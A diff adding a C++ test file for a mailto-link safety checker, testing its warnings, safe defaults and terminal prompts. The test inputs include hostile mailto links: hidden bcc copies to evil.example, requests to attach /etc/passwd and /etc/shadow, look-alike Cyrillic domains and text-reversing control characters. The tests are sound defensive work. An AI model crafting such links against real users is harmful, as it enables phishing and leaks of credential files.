@@ -1,0 +1,410 @@
+#include "ask/question.hpp"
+
+#include <catch2/catch.hpp>
+#include <string>
+
+#include "mailtokit/mailto.hpp"
+#include "mailtokit/policy.hpp"
+#include "mailtokit/utf8.hpp"
+
+using namespace mailtokit;
+using namespace mailtokit::cli;
+
+namespace {
+
+// The question `open` asks for `uri`, built as cmd_open.cpp builds it.
+question ask(std::string_view uri, const std::vector<std::string>& losses = {}, const text_limits& l = {}) {
+  auto d = parse_draft(uri, {}, policy::defaults());
+  REQUIRE(d);
+  const auto findings = preview::check(*d);
+  return make_question(*d, findings, losses, l);
+}
+
+// What a person reads before the details: the headline, the findings and the choices.
+std::string front(const question& q) {
+  std::string t = q.headline + "\n";
+  for (const auto& f : q.findings) t += f + "\n";
+  for (const auto& c : q.choices) t += c + "\n";
+  for (const auto& b : q.buttons) t += b.label + "\n";
+  return t + question_terminal_text(q);
+}
+
+bool has(std::string_view text, std::string_view what) { return text.find(what) != std::string_view::npos; }
+
+// Words for developers that the question never shows: field indexes, spec names, the preview's
+// own phrases, and every finding and warning code (preview.hpp, draft.hpp).
+void check_plain_text(const std::string& t) {
+  for (const char* bad : {"to[",
+                          "cc[",
+                          "bcc",
+                          "Bcc",
+                          "BCC",
+                          "UTS",
+                          "RFC",
+                          "ASCII",
+                          "section",
+                          "SMTPUTF8",
+                          "hfield",
+                          "header:",
+                          "hidden_recipients",
+                          "bidi_control",
+                          "mixed_direction",
+                          "mixed_script",
+                          "confusable",
+                          "mixed_numbers",
+                          "hidden_overlay",
+                          "non_ascii_local_part",
+                          "invisible_character",
+                          "control_character",
+                          "invalid_address",
+                          "display_name_mismatch",
+                          "long_body",
+                          "many_lines",
+                          "header_controls_removed",
+                          "attach=",
+                          "repaired:",
+                          "U+2066",
+                          "\xE2\x81\xA6",
+                          "\xE2\x80\xAE",
+                          "\x1B"}) {
+    INFO(t);
+    CHECK_FALSE(has(t, bad));
+  }
+}
+
+// The recipients' lines are checked alone: they isolate each address (LRI ... PDI), which the
+// rest of the question never holds.
+void check_plain_words(const question& q) {
+  question without = q;
+  without.recipients.clear();
+  check_plain_text(front(without));
+  for (const auto& r : q.recipients) {
+    INFO(r);
+    CHECK_FALSE(has(r, "Bcc"));
+    CHECK_FALSE(has(r, "\xE2\x80\xAE"));
+    std::size_t open = 0, close = 0;
+    for (std::size_t at = 0; (at = r.find("\xE2\x81\xA6", at)) != std::string::npos; ++at) ++open;
+    for (std::size_t at = 0; (at = r.find("\xE2\x81\xA9", at)) != std::string::npos; ++at) ++close;
+    CHECK(open == close);
+  }
+}
+
+// The notification's lines for `uri`, built as cmd_open.cpp builds them, one per line.
+std::string notice(std::string_view uri) {
+  auto d = parse_draft(uri, {}, policy::defaults());
+  REQUIRE(d);
+  std::string t;
+  for (const auto& l : notice_lines(*d, preview::check(*d))) t += l + "\n";
+  return t;
+}
+
+// Lines of question_plain_text() before the details.
+// Lines of question_plain_text() before the details, without who gets the message (at most a
+// line per field, each at most 20 addresses: recipients_bounded()).
+std::size_t lines_before_details(const question& q) {
+  question without = q;
+  without.recipients.clear();
+  const std::string t = question_plain_text(without);
+  const auto details = t.find("\nDetails:\n");
+  REQUIRE(details != std::string::npos);
+  std::size_t n = 0;
+  for (std::size_t i = 0; i < details; ++i) n += t[i] == '\n';
+  return n;
+}
+
+const std::string issue_link =
+    "mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice&attach=%2Fetc%2Fpasswd";
+
+}  // namespace
+
+TEST_CASE("the issue's link: the look-alike first, named and marked, Cancel the default", "[question]") {
+  const auto q = ask(issue_link);
+  CHECK(q.title == "mailtokit: check this link before it opens");
+  CHECK(q.headline == "admin@\xD0\xB0pple.com is not apple.com");
+  REQUIRE(q.findings.size() == 2);
+  CHECK(q.findings[0] ==
+        "In admin@[\xD0\xB0]pple.com, the letter in brackets is the Cyrillic letter \xD0\xB0, not the Latin "
+        "letter a. "
+        "Its real name is admin@xn--pple-43d.com.");
+  CHECK(q.findings[1] == "x@evil.example would get the message, and the other recipients would not know.");
+  // attach= is not named here: offer_files() says what became of it, in the file question or as
+  // "not attached: ... and why", so the two never contradict each other (issue 35).
+  for (const auto& f : q.findings) CHECK(f.find("passwd") == std::string::npos);
+  // Without the hidden copy the look-alike would still be there: Cancel, first.
+  CHECK(q.safe == choice::cancel);
+  REQUIRE(q.buttons.size() == 3);
+  CHECK(q.buttons[0].what == choice::cancel);
+  CHECK(q.buttons[1].what == choice::open_without_bcc);
+  CHECK(q.buttons[2].what == choice::open);
+  CHECK(q.buttons[1].label == "Open without the hidden copy");
+  REQUIRE(q.choices.size() == 3);
+  CHECK(q.choices[0] == "Cancel: nothing is opened.");
+  CHECK(q.choices[1] ==
+        "Open without the hidden copy: your mail program gets the message without x@evil.example.");
+  CHECK(q.choices[2] ==
+        "Open as it is: your mail program gets the message with the hidden copy to x@evil.example.");
+  check_plain_words(q);
+  // The details keep the precise form, one step away.
+  CHECK(has(q.details, "ASCII form: admin@xn--pple-43d.com"));
+  CHECK(has(q.details, "HIDDEN recipient"));
+  CHECK(has(q.details, "attach = "));
+  CHECK(lines_before_details(q) <= 12);
+}
+
+TEST_CASE("a hidden copy alone: named in the headline, and removing it is the default", "[question]") {
+  const auto q = ask("mailto:a@example.org?bcc=x@evil.example&subject=hi");
+  CHECK(q.headline == "This link would send a hidden copy to x@evil.example");
+  CHECK(q.safe == choice::open_without_bcc);
+  REQUIRE(q.buttons.size() == 3);
+  CHECK(q.buttons[0].what == choice::open_without_bcc);
+  CHECK(q.buttons[1].what == choice::cancel);
+  CHECK(q.choices[0].rfind("Open without the hidden copy: ", 0) == 0);
+  check_plain_words(q);
+  // A look-alike hidden address goes with the hidden copy: removing it is still safe.
+  const auto spoofed = ask("mailto:a@example.org?bcc=x@%D0%B0pple.com");
+  CHECK(spoofed.headline == "x@\xD0\xB0pple.com is not apple.com");
+  CHECK(spoofed.safe == choice::open_without_bcc);
+  // Something else risky stays: Cancel.
+  CHECK(ask("mailto:a@example.org?bcc=x@evil.example&subject=%E2%80%AE").safe == choice::cancel);
+  CHECK(ask("mailto:not%20an%20address?bcc=x@evil.example").safe == choice::cancel);
+  // Many: counted, three named.
+  const auto many =
+      ask("mailto:a@example.org?bcc=1@x.example,2@x.example,3@x.example,4@x.example,5@x.example");
+  CHECK(
+      many.headline ==
+      "This link would send hidden copies to 5 addresses: 1@x.example, 2@x.example, 3@x.example and 2 more");
+  CHECK(many.buttons[0].label == "Open without the hidden copies");
+  CHECK(many.safe == choice::open_without_bcc);
+}
+
+TEST_CASE("three findings fit on one screen, the worst first", "[question]") {
+  const auto q =
+      ask("mailto:admin@%D0%B0pple.com?bcc=x@evil.example&subject=Invoice%20%E2%80%AEfdp.exe&attach=%2Fetc%"
+          "2Fpasswd"
+          "&from=boss@example.com",
+          {"aerc shows the addresses percent-encoded"});
+  CHECK(q.headline == "admin@\xD0\xB0pple.com is not apple.com");
+  REQUIRE(q.findings.size() >= 4);  // attach= is told by offer_files(), not here
+  CHECK(has(q.findings[1], "x@evil.example"));
+  CHECK(q.findings[2] ==
+        "The subject contains invisible characters that change the order of its text: "
+        "Invoice <U+202E>fdp.exe.");
+  CHECK(has(q.findings[3], "\"from\""));
+  check_plain_words(q);
+  CHECK(lines_before_details(q) <= 12);
+  const std::string t = question_plain_text(q);
+  for (std::size_t at = 0, nl = 0; at < t.size() && at < t.find("\nDetails:"); at = nl + 1) {
+    nl = std::min(t.find('\n', at), t.size());
+    CHECK(utf8::length(std::string_view(t).substr(at, nl - at)) <= 160);
+  }
+}
+
+TEST_CASE("each kind of finding has its own plain headline", "[question]") {
+  const auto name = ask("mailto:%22boss@example.com%22%20%3Cx@evil.example%3E");
+  CHECK(name.headline == "The name boss@example.com hides the real address x@evil.example");
+  CHECK(name.findings.at(0) ==
+        "Your mail program may show boss@example.com, but the message would go to x@evil.example.");
+  const auto invisible = ask("mailto:a@ex%E2%80%8Bample.com");
+  CHECK(invisible.headline == "The address a@ex<U+200B>ample.com contains invisible characters");
+  CHECK(invisible.findings.size() == 1);  // not named again as invalid
+  const auto invalid = ask("mailto:a@example.org?to=not%20an%20address");
+  CHECK(invalid.headline == "\"not an address\" is not a valid email address");
+  const auto local = ask("mailto:p%D0%B0yp%CE%BFl@example.com");
+  CHECK(local.headline == "p\xD0\xB0yp\xCE\xBFl@example.com is not paypol@example.com");
+  CHECK(local.findings.at(0) ==
+        "In p[\xD0\xB0]yp[\xCE\xBF]l@example.com, the 2 letters in brackets are not what they seem: \xD0\xB0 "
+        "from the "
+        "Cyrillic alphabet looks like a; \xCE\xBF from the Greek alphabet looks like o.");
+  const auto zhe = ask("mailto:a@ex%D0%B6mple.com");
+  CHECK(zhe.headline == "The address a@ex\xD0\xB6mple.com mixes letters from different alphabets");
+  CHECK(has(zhe.findings.at(0), "the letter in brackets is from the Cyrillic alphabet"));
+  CHECK(has(zhe.findings.at(0), "a@ex[\xD0\xB6]mple.com"));
+  const auto shown_name = ask("mailto:?to=%22Bob%20%E2%80%8B%22%20%3Cbob@example.com%3E");
+  CHECK(shown_name.headline == "The name shown for bob@example.com contains hidden characters");
+  CHECK(has(shown_name.findings.at(0), "The name Bob <U+200B> shown for bob@example.com"));
+  const auto body = ask("mailto:a@example.org?body=x%E2%80%AEy");
+  CHECK(body.headline == "The message text contains hidden characters");
+  for (const auto* q : {&name, &invisible, &invalid, &local, &zhe, &shown_name, &body}) {
+    check_plain_words(*q);
+    CHECK(q->safe == choice::cancel);
+    CHECK(q->buttons.front().what == choice::cancel);
+    CHECK(q->buttons.size() == 2);  // no hidden copy: no button to remove it
+  }
+  // Nothing risky (confirm = always): a plain question, still nothing opened by default.
+  const auto plain = ask("mailto:friend@example.org");
+  CHECK(plain.headline == "Open a message to friend@example.org?");
+  CHECK(plain.findings.empty());
+  CHECK(plain.safe == choice::cancel);
+}
+
+TEST_CASE("hostile text cannot change or swamp the question", "[question]") {
+  std::string to;
+  for (int i = 0; i < 990; ++i) to += (i ? "," : "") + std::string("u") + std::to_string(i) + "@example.org";
+  std::string subject = "%3Cb%3Ebold%3C%2Fb%3E%E2%80%AE%1B%5B31m";
+  for (int i = 0; i < 3000; ++i) subject += "A";
+  std::string hidden;
+  for (int i = 0; i < 6; ++i)
+    hidden += (i ? "," : "") + std::string("h") + std::to_string(i) + "@evil.example";
+  const auto q = ask("mailto:" + to + "?subject=" + subject + "&bcc=" + hidden);
+  const std::string t = question_plain_text(q);
+  CHECK(utf8::validate(t));
+  CHECK_FALSE(has(t, "\xE2\x80\xAE"));  // U+202E shown, not applied
+  CHECK(has(t, "<U+202E>"));
+  CHECK_FALSE(has(t, "\x1B"));
+  CHECK(has(t, "<b>bold</b>"));  // plain text: shown as typed
+  CHECK(lines_before_details(q) <= 12);
+  REQUIRE(q.recipients.size() == 2);  // To and the hidden copies: a line each
+  CHECK(has(q.recipients[0], "u19@example.org"));
+  CHECK_FALSE(has(q.recipients[0], "u20@example.org"));
+  CHECK(has(q.recipients[0], "and 970 more"));
+  CHECK(has(q.recipients[1], "h5@evil.example"));  // every hidden copy by address
+  question without = q;
+  without.recipients.clear();
+  const std::string t_rest = question_plain_text(without);
+  std::size_t newlines = 0, longest = 0;
+  for (std::size_t at = 0, nl = 0; at < t_rest.size(); at = nl + 1) {
+    nl = std::min(t_rest.find('\n', at), t_rest.size());
+    longest = std::max(longest, utf8::length(std::string_view(t_rest).substr(at, nl - at)));
+    ++newlines;
+  }
+  CHECK(newlines < 200);
+  CHECK(longest <= 240 + 30);
+  CHECK(has(q.details, "more lines of this part"));  // the To list is cut ...
+  CHECK(has(q.details, "Subject:"));                 // ... and what follows is shown
+  CHECK(has(q.details, "more characters)"));
+  check_plain_words(q);
+}
+
+namespace {
+// The choice of a typed line, without files.
+std::optional<choice> typed(std::string_view line, const question& q) {
+  auto a = parse_typed(line, q);
+  if (!a) return std::nullopt;
+  CHECK(a->files.empty());
+  return a->what;
+}
+}  // namespace
+
+TEST_CASE("the terminal: keys, Enter picks the safe answer, unknown answers ask again", "[question]") {
+  const auto q = ask(issue_link);
+  const std::string t = question_terminal_text(q);
+  CHECK(t.rfind(q.headline + "\n\n", 0) == 0);
+  CHECK(has(t, "  [c] Cancel: nothing is opened.\n"));
+  CHECK(has(t, "  [w] Open without the hidden copy: "));
+  CHECK(has(t, "  [o] Open as it is: "));
+  CHECK(t.find("[c]") < t.find("[w]"));
+  CHECK(typed("", q) == choice::cancel);
+  CHECK(typed("\n", q) == choice::cancel);
+  CHECK(typed("o\n", q) == choice::open);
+  CHECK(typed(" Open ", q) == choice::open);
+  CHECK(typed("w", q) == choice::open_without_bcc);
+  CHECK(typed("B", q) == choice::open_without_bcc);
+  CHECK(typed("c", q) == choice::cancel);
+  CHECK(typed("open as it is", q) == choice::open);
+  CHECK(typed("Open without the hidden copy", q) == choice::open_without_bcc);
+  CHECK_FALSE(typed("yes", q));
+  CHECK_FALSE(typed("d", q));  // the details are not an answer
+  const auto bcc = ask("mailto:a@example.org?bcc=x@evil.example");
+  CHECK(typed("", bcc) == choice::open_without_bcc);
+  const auto no_bcc = ask("mailto:admin@%D0%B0pple.com");
+  CHECK_FALSE(typed("w", no_bcc));  // no such button
+  CHECK(typed("", no_bcc) == choice::cancel);
+  CHECK_FALSE(has(question_terminal_text(no_bcc), "[w]"));
+}
+
+TEST_CASE("one question for the link and its files: none ticked, chosen by number on the terminal", "[question]") {
+  // Issue 35: one question, the whole truth; no default key attaches.
+  file_offer files;
+  files.intro = "xdg-email asks to attach 2 files to the message for Thunderbird.";
+  files.advice = "Tick a file only if you asked to send it yourself.";
+  files.files = {{"\xE2\x81\xA8" "a.pdf\xE2\x81\xA9", "in /home/u, 1 kB, PDF document"},
+                 {"\xE2\x81\xA8" "b.pdf\xE2\x81\xA9", "in /home/u, 2 kB, PDF document"}};
+  files.notes = {"Never attached: .ssh: it is hidden"};
+  auto d = mailtokit::parse_draft("mailto:boss@example.org");
+  REQUIRE(d);
+  const auto plain = make_question(*d, mailtokit::preview::check(*d), {}, {}, files);
+  CHECK(plain.headline == files.intro);  // asked only for the files
+  CHECK(plain.safe == choice::open);     // Enter opens, with no file ticked
+  REQUIRE(plain.buttons.size() == 2);
+  CHECK(plain.buttons[0].what == choice::open);
+  CHECK(plain.buttons[1].what == choice::cancel);
+  CHECK(plain.recipients == std::vector<std::string>{"To: \xE2\x81\xA6" "boss@example.org\xE2\x81\xA9"});
+  const std::string t = question_terminal_text(plain);
+  CHECK(has(t, "The message goes to:\n  To: "));
+  CHECK(has(t, "  [1] \xE2\x81\xA8" "a.pdf\xE2\x81\xA9\n      in /home/u, 1 kB, PDF document\n"));
+  CHECK(has(t, "  [2] "));
+  CHECK(has(t, "  Never attached: .ssh: it is hidden\n"));
+  CHECK(t.find(files.intro) == t.rfind(files.intro));  // the headline is not said twice
+  auto a = parse_typed("", plain);
+  REQUIRE(a);
+  CHECK(a->what == choice::open);
+  CHECK(a->files.empty());
+  CHECK(a->files_shown);
+  a = parse_typed("o 2", plain);
+  REQUIRE(a);
+  CHECK(a->files == std::vector<std::size_t>{1});
+  a = parse_typed("open 2 1 2", plain);
+  REQUIRE(a);
+  CHECK(a->files == std::vector<std::size_t>{0, 1});
+  a = parse_typed("O all", plain);
+  REQUIRE(a);
+  CHECK(a->files == std::vector<std::size_t>{0, 1});
+  CHECK_FALSE(parse_typed("1", plain));      // a number is no choice
+  CHECK_FALSE(parse_typed("o 3", plain));    // no third file
+  CHECK_FALSE(parse_typed("o 0", plain));
+  CHECK_FALSE(parse_typed("o 1x", plain));
+  CHECK_FALSE(parse_typed("o 99999999999999999999", plain));
+  CHECK_FALSE(parse_typed("c 1", plain));    // cancel attaches nothing
+  CHECK_FALSE(parse_typed("w", plain));      // no hidden copy here
+  // A risky link keeps its headline and its safe default; the files are in the same question.
+  auto risky = mailtokit::parse_draft("mailto:boss@example.org?bcc=spy@evil.example");
+  REQUIRE(risky);
+  const auto q = make_question(*risky, mailtokit::preview::check(*risky), {}, {}, files);
+  CHECK(q.headline != files.intro);
+  CHECK(q.safe == choice::open_without_bcc);
+  CHECK(q.recipients.size() == 2);
+  a = parse_typed("w 1", q);
+  REQUIRE(a);
+  CHECK(a->what == choice::open_without_bcc);
+  CHECK(a->files == std::vector<std::size_t>{0});
+  CHECK(has(question_terminal_text(q), files.intro + "\n"));
+  // Without files, numbers are no answer.
+  const auto none = make_question(*d, mailtokit::preview::check(*d), {});
+  CHECK_FALSE(parse_typed("o 1", none));
+  CHECK_FALSE(parse_typed("", none)->files_shown);
+}
+
+TEST_CASE("the notification says each repair in plain words, once per kind", "[question][notice]") {
+  // Two syntax repairs (a literal '%', a field without '=') are one sentence.
+  const std::string syntax = notice("mailto:a@example.org?subject=100%&keywords");
+  CHECK(syntax == "The link was not written quite correctly; mailtokit read it the way it was evidently meant.\n");
+  // Where the text changed is named before a colon.
+  const std::string text = notice("mailto:a@example.org?subject=a%0Ab%FF&body=x%01y&keywords=k%E2%80%8Bw%0Dz");
+  CHECK(has(text, "Subject: line breaks or control characters were removed.\n"));
+  CHECK(has(text, "Subject: some letters could not be read and were replaced.\n"));
+  CHECK(has(text, "Message text: control characters were removed.\n"));
+  CHECK(has(text, "Keywords: line breaks or control characters were removed.\n"));
+  check_plain_text(text);
+  // Line breaks written as a bare %0A are no news: no line at all.
+  CHECK(notice("mailto:a@example.org?body=line%201%0Aline%202") == "");
+  CHECK(notice("mailto:a@example.org?subject=fine") == "");
+}
+
+TEST_CASE("the notification names risky things and removed fields as the question does", "[question][notice]") {
+  const std::string t = notice(issue_link);
+  CHECK(has(t, "admin@\xD0\xB0pple.com is not apple.com\n"));
+  CHECK(has(t, "This link would send a hidden copy to x@evil.example\n"));
+  // attach= is told by offer_files() (offered, or not attached and why), so not here.
+  CHECK_FALSE(has(t, "passwd"));
+  check_plain_text(t);
+  // Other fields that ask for a file, and fields a link may not set, are named.
+  const std::string dropped = notice("mailto:a@example.org?insert=%2Fetc%2Fshadow&from=boss@example.org&x-y=1");
+  CHECK(has(dropped, "mailtokit removed a request to attach /etc/shadow: a link may never attach files.\n"));
+  CHECK(has(dropped, "mailtokit removed 2 fields a link may not set: \"from\", \"x-y\".\n"));
+  // A long subject is worth reading in full.
+  CHECK(has(notice("mailto:a@example.org?subject=" + std::string(300, 'x')),
+            "The subject is long: read all of it before you send it.\n"));
+  // An address some servers cannot deliver to.
+  const std::string utf8 = notice("mailto:%D0%BF%D0%BE%D1%87%D1%82%D0%B0@example.org");
+  CHECK(has(utf8, "has letters outside A to Z before the @; some mail servers cannot deliver to it.\n"));
+}
